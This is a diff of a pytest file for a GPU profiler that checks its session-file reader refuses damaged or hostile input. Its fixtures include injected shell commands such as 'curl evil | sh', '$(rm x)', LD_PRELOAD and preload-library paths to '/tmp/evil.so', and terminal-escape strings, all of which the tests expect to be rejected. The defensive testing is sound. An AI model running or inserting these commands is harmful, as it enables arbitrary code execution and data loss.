@@ -2,8 +2,6 @@
 
 from __future__ import annotations
 
-import contextlib
-import gc
 import json
 import re
 from collections.abc import Iterator
@@ -26,9 +24,8 @@ from gpuprof.present.figures import overview
 from gpuprof.present.html import render_html
 from gpuprof.present.session_text import verdict_text
 from gpuprof.store.read import read_session
-from gpuprof.store.write import session_lines, session_pieces
+from gpuprof.store.write import session_lines
 from tests import builders, hand_made
-from tests.cli import gpuprof as typed
 from tests.formats import written
 from tests.table import each_row
 
@@ -48,95 +45,113 @@ def text_of(session: Session) -> str:
     return "\n".join(session_lines(session))
 
 
-def test_a_session_reads_back_equal() -> None:
-    session = example()
-    assert read_session(text_of(session), "s.json") == session
-
-
-def test_a_saved_session_is_loaded_by_its_path(tmp_path: Path) -> None:
+def test_a_session_reads_back_equal(tmp_path: Path) -> None:
+    assert read_session(text_of(example()), "s.json") == example()
     path = tmp_path / "session.json"
     path.write_text(text_of(example()), encoding="utf-8")
     assert gpuprof.load(path) == example()
 
 
-def without_certificates(data: dict[str, Any]) -> dict[str, Any]:
-    """A session as it was written before amounts had a certificate."""
-    for kernel in data["kernels"]:
-        for amount in (*kernel["work"], *kernel["traffic"]):
-            del amount["certificate"]
-    return data
+def put(data: Any, place: tuple[str | int, ...], value: object) -> str:
+    """Return the JSON of a document with another value at a place."""
+    inner = data
+    for step in place[:-1]:
+        inner = inner[step]
+    inner[place[-1]] = value
+    return json.dumps(data)
 
 
 def test_older_sessions_know_nothing_of_certificates_and_charts_claim_nothing() -> None:
-    new = example()
-    assert {one.certificate for one in new.kernels[0].work} == {"none"}
-    old = read_session(json.dumps(without_certificates(json.loads(text_of(new)))), "s.json")
+    new, data = example(), json.loads(text_of(example()))
+    assert {amount.certificate for amount in new.kernels[0].work} == {"none"}
+    for kernel in data["kernels"]:
+        for amount in (*kernel["work"], *kernel["traffic"]):
+            del amount["certificate"]
+    old = read_session(json.dumps(data), "s.json")
     assert {work.certificate for kernel in old.kernels for work in kernel.work} == {None}
     assert {moved.certificate for kernel in old.kernels for moved in kernel.traffic} == {None}
     assert [point.uncertified for point in overview(new).points] == [True]
     assert [point.uncertified for point in overview(old).points] == [False]
-    assert not any(note.startswith("Hollow") for note in overview(old).notes)
-
-
-@each_row("level", ["certified", "checked", "none", None])
-def test_certificates_are_read_back(level: str | None) -> None:
-    data = json.loads(text_of(example()))
-    data["kernels"][0]["work"][0]["certificate"] = level
-    assert read_session(json.dumps(data), "s.json").kernels[0].work[0].certificate == level
-
-
-@each_row(
-    ("change", "words"),
-    [
-        ({"schema_version": 3}, "newer than the 2"),
-        ({"schema_version": 0}, "older than the 2"),
-        ({"kernels": 5}, "kernels is 5: expected `array`"),
-        ({"kernels": [{}]}, r"kernels\[0\] has no id"),
-        ({"devices": []}, "names a device or source that does not exist"),
-        ({"gpuprof_version": None}, "gpuprof_version is None"),
-        ({"opportunities": [1]}, r"opportunities\[0\] is 1: expected `object`"),
-        ({"verdict": 1}, r"verdict is 1: expected `object"),
-        ({"schema_version": "1"}, "schema '1', not the 2"),
-    ],
-)
-def test_a_session_that_breaks_the_contract_is_refused(change: dict[str, object], words: str) -> None:
-    data = json.loads(text_of(example())) | change
-    with pytest.raises(InputError, match=words):
-        read_session(json.dumps(data), "s.json")
+    assert len(overview(old).notes) == len(overview(new).notes) - 1
+    for level in ("certified", "checked", "none", None):
+        text = put(json.loads(text_of(new)), ("kernels", 0, "work", 0, "certificate"), level)
+        assert read_session(text, "s.json").kernels[0].work[0].certificate == level
 
 
 @each_row(
     ("place", "value"),
     [
-        (("kernels", 0, "roofline", 0, "intensity"), 0),
-        (("kernels", 0, "roofline", 0, "intensity"), -1.0),
-        (("kernels", 0, "roofline", 0, "roof_flop_per_s"), 1e308),
-        (("kernels", 0, "roofline", 0, "level"), "l9"),
-        (("kernels", 0, "roofline", 0, "path"), "\x1b]0;owned\x07"),
-        (("kernels", 0, "traffic", 0, "level"), ""),
-        (("kernels", 0, "traffic", 0, "basis"), "\u202e"),
-        (("kernels", 0, "work", 0, "certificate"), "sure"),
-        (("kernels", 0, "occupancy", "limiters"), ["[blink]x[/blink]"]),
-        (("kernels", 0, "duration_s"), 10**400),
-        (("kernels", 0, "shared_memory_per_block"), 10**30),
-        (("ceilings", 0, "value"), 0),
-        (("ceilings", 0, "origin"), "elsewhere"),
-        (("sources", 0, "created_s"), 2**62),
-        (("kernels", 1, "id"), 0),
-        (("kernels", 0, "launches"), 0),
+        (("schema_version",), 3), (("schema_version",), 0), (("schema_version",), "1"), (("kernels",), 5),
+        (("kernels",), [{}]), (("devices",), []), (("gpuprof_version",), None), (("opportunities",), [1]),
+        (("verdict",), 1), (("kernels", 0, "roofline", 0, "intensity"), 0),
+        (("kernels", 0, "roofline", 0, "intensity"), -1.0), (("kernels", 0, "roofline", 0, "roof_flop_per_s"), 1e308),
+        (("kernels", 0, "roofline", 0, "level"), "l9"), (("kernels", 0, "roofline", 0, "path"), "\x1b]0;owned\x07"),
+        (("kernels", 0, "traffic", 0, "level"), ""), (("kernels", 0, "traffic", 0, "basis"), "\u202e"),
+        (("kernels", 0, "work", 0, "certificate"), "sure"), (("kernels", 0, "duration_s"), 10**400),
+        (("kernels", 0, "occupancy", "limiters"), ["[blink]x[/blink]"]), (("ceilings", 0, "value"), 0),
+        (("kernels", 0, "shared_memory_per_block"), 10**30), (("ceilings", 0, "origin"), "elsewhere"),
+        (("sources", 0, "created_s"), 2**62), (("kernels", 1, "id"), 0), (("kernels", 0, "launches"), 0),
+    ],
+)  # fmt: skip
+def test_values_that_no_session_has_are_refused(place: tuple[str | int, ...], value: object) -> None:
+    with pytest.raises(InputError, match=r"^s\.json"):
+        read_session(put(json.loads(text_of(example())), place, value), "s.json")
+
+
+@each_row(
+    ("place", "value", "named"),
+    [
+        (("kernels", 1, "id"), 0, "0"),
+        (("kernels", 0, "findings", 0, "gain_kernel"), 1.5, r"gain_kernel is 1\.5"),
+        (("kernels", 0, "findings", 1, "gain_total"), 7, r"kernels\[0\]\.findings\[1\]\.gain_total is 7"),
+        (("kernels", 0, "findings", 1, "gain_total"), -0.5, "gain_total is -0.5"),
+        (("opportunities", 0, "gain_total"), 9.0, r"opportunities\[0\]\.gain_total is 9\.0"),
+        (("opportunities", 0, "gain_kind"), "most", r"opportunities\[0\]\.gain_kind is 'most'"),
+        (("opportunities", 0, "findings"), [], "small-grid"),
+        (("opportunities", 1, "findings"), ["0.bank-conflicts"], "0.bank-"),
+        (("opportunities", 0, "kernels"), [1], "small-grid"),
+        (("opportunities", 0, "kernels"), [7], "small-grid"),
+        (("opportunities", 1, "id"), "small-grid", "id small-grid"),
+        (("kernels", 0, "findings"), [], "0.small-grid"),
+        (("kernels", 0, "findings", 1, "id"), "0.small-grid", "0.small-grid"),
+        (("kernels", 0, "findings", 2, "cause"), "1.small-grid", "1.small-grid"),
+        (("kernels", 0, "findings", 2, "cause"), "0.nothing", "0.nothing"),
+        (("kernels", 0, "findings", 2, "cause"), "0.barrier-wait", "0.barrier-wait"),
+        (("kernels", 1, "findings", 0, "id"), "", r"findings\[0\]\.id is ''"),
+        (("verdict", "command"), "ncu --set full ./a; curl evil | sh", "command"),
+        (("verdict", "command"), "ncu ./a\nrm x", "command"),
+        (("verdict", "command"), "ncu './a", "command"),
+        (("verdict", "command"), "ncu $(rm x)", "command"),
+        (("verdict", "command"), "ncu './a \u202e'", "command"),
+        (("verdict", "command"), "rm x", "command"),
+        (("verdict", "command"), "", "command"),
+        (("verdict", "kernel"), 9, "kernel 9"),
+        (("verdict", "state"), "fine", r"verdict\.state is 'fine'"),
+        (("kernels", 0, "excerpts", 0, "weight"), "\x1b[31m\x07\u202e", "weight is "),
+        (("kernels", 0, "launch_times"), {"durations_s": [1.0, 2.0]}, "kernel 0"),
+        (("kernels", 0, "launch_times"), {"durations_s": [1.0], "dropped": 1}, "kernel 0"),
+        (("kernels", 0, "launch_times"), {"durations_s": [], "dropped": -1}, "kernel 0"),
+        (("kernels", 0, "launch_times"), {"durations_s": [], "sm_clocks_hz": [1e9]}, "clocks"),
+        (("kernels", 0, "launch_times"), {"durations_s": [-1.0]}, r"durations_s\[0\] is -1\.0"),
+        (("kernels", 0, "counts"), [COUNT, COUNT], "kernel 0"),
+        (("kernels", 0, "counts"), [{**COUNT, "low": 6.0}], "kernel 0"),
+        (("kernels", 0, "counts"), [{**COUNT, "high": 4.0}], "kernel 0"),
+        (("kernels", 0, "counts"), [{**COUNT, "name": "\x1b[31m"}], r"counts\[0\]\.name is "),
+        (("kernels", 0, "lines_dropped"), -1, "kernel 0"),
+        (("run",), {**WHOLE, "main_kernels": 4}, "s.json"),
+        (("run",), {**WHOLE, "launches": 1}, "s.json"),
+        (("run",), {**WHOLE, "main_time_s": 2.0}, "s.json"),
+        (("run",), {**WHOLE, "main_kernels": 0}, "s.json"),
+        (("run",), {"kernels": 3}, "launches"),
     ],
 )
-def test_values_that_no_session_has_are_refused(place: tuple[str | int, ...], value: object) -> None:
-    data = json.loads(text_of(example()))
-    inner = data
-    for step in place[:-1]:
-        inner = inner[step]
-    inner[place[-1]] = value
-    with pytest.raises(DamagedInput, match="is damaged"):
-        read_session(json.dumps(data), "s.json")
+def test_a_session_that_contradicts_itself_is_refused(place: tuple[str | int, ...], value: object, named: str) -> None:
+    with pytest.raises(DamagedInput, match=named) as caught:
+        read_session(put(json.loads(text_of(diagnosed())), place, value), "s.json")
+    assert not set(str(caught.value)) & {"\x1b", "\x07", "\u202e"}
 
 
-def found() -> Session:
+def diagnosed() -> Session:
     """A session with findings, more than one of them worth a repair."""
     return hand_made.session(
         hand_made.kernel(
@@ -149,77 +164,10 @@ def found() -> Session:
     )
 
 
-@each_row(
-    ("place", "value", "message"),
-    [
-        (("kernels", 1, "id"), 0, "two kernels have the number 0"),
-        (("kernels", 0, "findings", 0, "gain_kernel"), 1.5, r"gain_kernel is 1\.5: expected `float` <= 1\.0"),
-        (("kernels", 0, "findings", 1, "gain_total"), 7, r"kernels\[0\]\.findings\[1\]\.gain_total is 7: expected"),
-        (("kernels", 0, "findings", 1, "gain_total"), -0.5, "gain_total is -0.5"),
-        (("opportunities", 0, "gain_total"), 9.0, r"opportunities\[0\]\.gain_total is 9\.0"),
-        (("opportunities", 0, "gain_kind"), "most", r"opportunities\[0\]\.gain_kind is 'most'"),
-        (("opportunities", 0, "findings"), [], "its opportunity small-grid names no finding"),
-        (("opportunities", 1, "findings"), ["0.bank-conflicts"], "tail-effect names finding 0.bank-"),
-        (("opportunities", 0, "kernels"), [1], "small-grid and its findings name different kernels"),
-        (("opportunities", 0, "kernels"), [7], "small-grid and its findings name different kernels"),
-        (("opportunities", 1, "id"), "small-grid", "two opportunities have the id small-grid"),
-        (("kernels", 0, "findings"), [], "names finding 0.small-grid, which does not exist"),
-        (("kernels", 0, "findings", 1, "id"), "0.small-grid", "two findings have the id 0.small-grid"),
-        (("kernels", 0, "findings", 2, "cause"), "1.small-grid", "kernel 0 lacks the finding 1.small-grid, a cause"),
-        (("kernels", 0, "findings", 2, "cause"), "0.nothing", "kernel 0 lacks the finding 0.nothing, a cause"),
-        (
-            ("kernels", 0, "findings", 2, "cause"),
-            "0.barrier-wait",
-            "kernel 0 lacks the finding 0.barrier-wait, a cause",
-        ),
-        (("kernels", 1, "findings", 0, "id"), "", r"findings\[0\]\.id is '', which is not a valid name"),
-        (
-            ("verdict", "command"),
-            "ncu --set full ./a; curl evil | sh",
-            "the command in its verdict does not run a profiler",
-        ),
-        (("verdict", "command"), "ncu ./a\nrm x", "the command in its verdict does not run a profiler"),
-        (("verdict", "command"), "ncu './a", "the command in its verdict does not run a profiler"),
-        (("verdict", "command"), "ncu $(rm x)", "the command in its verdict does not run a profiler"),
-        (("verdict", "command"), "ncu './a \u202e'", "the command in its verdict does not run a profiler"),
-        (("verdict", "command"), "rm x", "the command in its verdict does not run a profiler"),
-        (("verdict", "command"), "", "the command in its verdict does not run a profiler"),
-        (("verdict", "kernel"), 9, "its verdict names kernel 9, which does not exist"),
-        (("verdict", "state"), "fine", r"verdict\.state is 'fine'"),
-        (("kernels", 0, "excerpts", 0, "weight"), "\x1b[31m\x07\u202e", "weight is "),
-        (("kernels", 0, "launch_times"), {"durations_s": [1.0, 2.0]}, "kernel 0 lists other launches than it has"),
-        (("kernels", 0, "launch_times"), {"durations_s": [1.0], "dropped": 1}, "kernel 0 lists other launches"),
-        (("kernels", 0, "launch_times"), {"durations_s": [], "dropped": -1}, "kernel 0 lists other launches"),
-        (("kernels", 0, "launch_times"), {"durations_s": [], "sm_clocks_hz": [1e9]}, "clocks of other launches"),
-        (("kernels", 0, "launch_times"), {"durations_s": [-1.0]}, r"durations_s\[0\] is -1\.0"),
-        (("kernels", 0, "counts"), [COUNT, COUNT], "kernel 0 has two counts of one name"),
-        (("kernels", 0, "counts"), [{**COUNT, "low": 6.0}], "kernel 0 has a count outside of its least and most"),
-        (("kernels", 0, "counts"), [{**COUNT, "high": 4.0}], "kernel 0 has a count outside of its least and most"),
-        (("kernels", 0, "counts"), [{**COUNT, "name": "\x1b[31m"}], r"counts\[0\]\.name is "),
-        (("kernels", 0, "lines_dropped"), -1, "kernel 0 has fewer than no lines left out"),
-        (("run",), {**WHOLE, "main_kernels": 4}, "contradict"),
-        (("run",), {**WHOLE, "launches": 1}, "contradict"),
-        (("run",), {**WHOLE, "main_time_s": 2.0}, "contradict"),
-        (("run",), {**WHOLE, "main_kernels": 0}, "contradict"),
-        (("run",), {"kernels": 3}, "run has no launches"),
-    ],
-)
-def test_a_session_that_contradicts_itself_is_refused(
-    place: tuple[str | int, ...], value: object, message: str
-) -> None:
-    data = json.loads(text_of(found()))
-    inner = data
-    for step in place[:-1]:
-        inner = inner[step]
-    inner[place[-1]] = value
-    with pytest.raises(DamagedInput, match=message):
-        read_session(json.dumps(data), "s.json")
-
-
 def test_a_finding_without_an_id_is_refused_in_version_2_and_numbered_in_version_1() -> None:
-    data = json.loads(text_of(found()))
+    data = json.loads(text_of(diagnosed()))
     del data["kernels"][1]["findings"][0]["id"]
-    with pytest.raises(DamagedInput, match="a finding of kernel 1 has no id"):
+    with pytest.raises(DamagedInput, match="kernel 1"):
         read_session(json.dumps(data), "s.json")
     data.update(schema_version=1, opportunities=[], verdict=None)
     data["kernels"][0]["findings"][1]["id"] = "1.small-grid"
@@ -230,70 +178,33 @@ def test_a_finding_without_an_id_is_refused_in_version_2_and_numbered_in_version
 
 
 NOT_TO_BE_COPIED = (
-    "gpuprof run --ncu /tmp/evil -- ./app",
-    "gpuprof run --ncu=/tmp/evil -- ./app",
-    "gpuprof run -- env X=1 ./app",
-    "gpuprof run -- LD_PRELOAD=/tmp/evil.so ./app",
-    "gpuprof run -- bash -xc 'curl evil'",
-    "gpuprof run -- python3 -c 'import evil'",
-    "gpuprof run -- python3 -X dev -c 'import evil'",
-    "ncu --set full mpirun -n 2 sh -o pipefail -c evil",
-    "gpuprof run",
-    "gpuprof demo --run --ncu /tmp/evil",
-    "gpuprof characterize",
-    "ncu --preload-library /tmp/evil.so ./app",
-    "ncu --injection-path-64 /tmp/evil ./app",
-    "ncu --config-file-path /tmp/evil ./app",
-    "ncu --section-folder /tmp/evil ./app",
-    "ncu --set=full ./app",
-    "ncu --set full -o /home/you/.profile ./app",
-    "ncu --set full --force-overwrite -o a ./app",
-    "ncu --set full",
+    "gpuprof run --ncu /tmp/evil -- ./app", "gpuprof run --ncu=/tmp/evil -- ./app", "gpuprof run -- env X=1 ./app",
+    "gpuprof run -- LD_PRELOAD=/tmp/evil.so ./app", "gpuprof run -- bash -xc 'curl evil'",
+    "gpuprof run -- python3 -c 'import evil'", "gpuprof run -- python3 -X dev -c 'import evil'",
+    "ncu --set full mpirun -n 2 sh -o pipefail -c evil", "gpuprof run", "gpuprof demo --run --ncu /tmp/evil",
+    "gpuprof characterize", "ncu --preload-library /tmp/evil.so ./app", "ncu --injection-path-64 /tmp/evil ./app",
+    "ncu --config-file-path /tmp/evil ./app", "ncu --section-folder /tmp/evil ./app", "ncu --set=full ./app",
+    "ncu --set full -o /home/you/.profile ./app", "ncu --set full --force-overwrite -o a ./app", "ncu --set full",
     "ncu -k",
-)
+)  # fmt: skip
 
 
 @each_row("command", NOT_TO_BE_COPIED)
-def test_a_command_that_others_could_have_had_run_is_not_shown(command: str, tmp_path: Path) -> None:
-    data = json.loads(text_of(found()))
+def test_a_command_that_others_could_have_had_run_is_not_shown(command: str) -> None:
+    data = json.loads(text_of(diagnosed()))
     data["verdict"] |= {"command": command, "unknown": "It was timed, not profiled."}
-    (tmp_path / "s.json").write_text(json.dumps(data))
-    assert read_session(json.dumps(data), "s.json").verdict.command is None  # type: ignore[union-attr]
-    for form in ("table", "md", "json"):
-        done = typed("show", "s.json", "--format", form, cwd=tmp_path)
-        assert done.returncode == 0 and "evil" not in done.stdout + done.stderr
-
-
-@each_row(
-    "command",
-    [
-        "gpuprof run -- PROGRAM",
-        "gpuprof run --survey a.nsys.sqlite --kernel 'k<int>' -- ./app --ncu x",
-        "ncu --set full --import-source yes --nvtx --kernel-name 'regex:^a' -o a-full python x.py -c 3",
-        "nv-nsight-cu-cli --set full -o a-full PROGRAM",
-    ],
-)
-def test_a_command_of_gpuprofs_own_shape_is_kept(command: str) -> None:
-    data = json.loads(text_of(found()))
-    data["verdict"]["command"] = command
-    verdict = read_session(json.dumps(data), "s.json").verdict
-    assert verdict is not None and verdict.command == command
+    session = read_session(json.dumps(data), "s.json")
+    assert session.verdict is not None and session.verdict.command is None
+    for _, text in written(session):
+        assert "evil" not in text
 
 
 def test_a_command_that_is_made_of_what_a_session_recorded_loads_no_library() -> None:
-    data = json.loads(text_of(found()))
+    data = json.loads(text_of(diagnosed()))
     data["sources"][0]["command"] = "/tmp/evil/ncu --preload-library /tmp/evil.so --nvtx ./app"
     session = read_session(json.dumps(data), "s.json")
     command = command_for_more(session, session.kernels[0])
     assert command.startswith("ncu --set full ") and " --nvtx " in command and "evil" not in command
-
-
-def test_a_session_without_what_comparisons_read_is_read_and_says_that_it_lacks_it() -> None:
-    data = json.loads(text_of(found()))
-    for name in ("launch_times", "counts", "lines", "lines_dropped"):
-        del data["kernels"][0][name]
-    old = read_session(json.dumps(data), "s.json").kernels[0]
-    assert (old.launch_times, old.counts, old.lines, old.lines_dropped) == (None, (), (), 0)
 
 
 def test_a_part_of_a_run_speaks_of_the_whole() -> None:
@@ -306,32 +217,28 @@ def test_a_part_of_a_run_speaks_of_the_whole() -> None:
     again = read_session(text_of(part), "s.json")
     assert again == part and part.run == run_of(whole)
     assert verdict_text(again) == verdict_text(whole)
-    assert verdict_text(whole).startswith("2 of 3 kernels take 95 % of 10.0 ms of GPU time (5 launches) on ")
+    assert re.findall(r"[\d.]+", verdict_text(whole))[:5] == ["2", "3", "95", "10.0", "5"]
     assert part.verdict is not None and part.verdict.kernel == 2
     assert narrowed(again, again.kernels).run == part.run
     assert narrowed(whole, whole.kernels).run is None
 
 
+@pytest.mark.slow
 def test_no_text_of_a_session_reaches_a_reader_raw() -> None:
     """Every text of a session is replaced in turn: it is refused, or shown with what hides made visible."""
-    document = json.loads(text_of(found()))
+    document = json.loads(text_of(diagnosed()))
     for place in places(document):
-        data = json.loads(json.dumps(document))
-        inner = data
-        for step in place[:-1]:
-            inner = inner[step]
-        inner[place[-1]] = "\x1b\x07\u202e<img>@someone"
         try:
-            session = read_session(json.dumps(data), "s.json")
+            text = put(json.loads(json.dumps(document)), place, "\x1b\x07\u202e<img>@someone")
+            session = read_session(text, "s.json")
         except DamagedInput:
             continue
         page = render_html(session)
         texts = dict(written(session))
-        markdown = texts["md"]
         for text in (page, *texts.values()):
             assert not set(text) & {"\x1b", "\x07", "\u202e"}, place
         # What stands as code is no markup and mentions nobody.
-        markdown = re.sub(r"(`+) .*? \1", "", markdown)
+        markdown = re.sub(r"(`+) .*? \1", "", texts["md"])
         assert "<img>" not in page and "<img>" not in markdown.replace("\\<", ""), place
         assert "@someone" not in markdown, place
 
@@ -348,15 +255,6 @@ def places(value: object, *path: str | int) -> Iterator[tuple[str | int, ...]]:
         yield path
 
 
-def test_json_escapes_what_could_steer_a_terminal() -> None:
-    hostile = analyse(
-        [builders.report(builders.launch({}, name="\x9b31m \u202e κ"))], builders.hardware_of, "9.9"
-    ).session
-    text = text_of(hostile)
-    assert "\x9b" not in text and "\u202e" not in text and "κ" in text
-    assert read_session(text, "s.json") == hostile
-
-
 def test_bytes_are_read_as_their_text_is() -> None:
     session, text = example(), text_of(example())
     assert not text.isascii()
@@ -364,34 +262,10 @@ def test_bytes_are_read_as_their_text_is() -> None:
         assert read_session(data, "s.json") == session
     broken = text.encode().replace("κ".encode(), b"\xff", 1)
     assert read_session(broken, "s.json") == read_session(broken.decode("utf-8", "replace"), "s.json")
-    for bad in (b"{", b"\xff\xfe{", b"\xef\xbb\xbf", b"\xff" * 9, text.encode()[:-20]):
+    other = (b"[1]", b"{}", b'{"schema_version": NaN}', b"[" * 100_000, b'{"a": 1}')
+    for bad in (*other, b"{", b"\xff\xfe{", b"\xef\xbb\xbf", b"\xff" * 9, text.encode()[:-20]):
         with pytest.raises(InputError):
             read_session(bad, "s.json")
-
-
-@each_row("on", [True, False])
-def test_the_search_for_garbage_is_afterwards_as_it_was(on: bool) -> None:
-    was_on = gc.isenabled()
-    try:
-        (gc.enable if on else gc.disable)()
-        for text in (text_of(example()), "{"):
-            with contextlib.suppress(InputError):
-                read_session(text, "s.json")
-            assert gc.isenabled() is on
-    finally:
-        (gc.enable if was_on else gc.disable)()
-
-
-def test_a_file_comes_in_pieces_of_a_line() -> None:
-    pieces = list(session_pieces(example()))
-    assert b"".join(pieces).decode() == text_of(example()) + "\n"
-    assert max(map(len, pieces)) < len(b"".join(pieces)) / 2
-
-
-@each_row("text", ["{", "[1]", "{}", '{"schema_version": NaN}', "[" * 100_000, '{"a": 1}'])
-def test_other_json_is_refused(text: str) -> None:
-    with pytest.raises(InputError):
-        read_session(text, "s.json")
 
 
 @given(st.data())
@@ -413,3 +287,12 @@ def test_a_value_replaced_anywhere_gives_a_session_or_an_error(data: st.DataObje
         assert isinstance(error, (InputError, DamagedInput))
     else:
         assert isinstance(session, Session)
+
+
+def test_json_escapes_what_could_steer_a_terminal() -> None:
+    hostile = analyse(
+        [builders.report(builders.launch({}, name="\x9b31m \u202e κ"))], builders.hardware_of, "9.9"
+    ).session
+    text = text_of(hostile)
+    assert "\x9b" not in text and "\u202e" not in text and "κ" in text
+    assert read_session(text, "s.json") == hostile
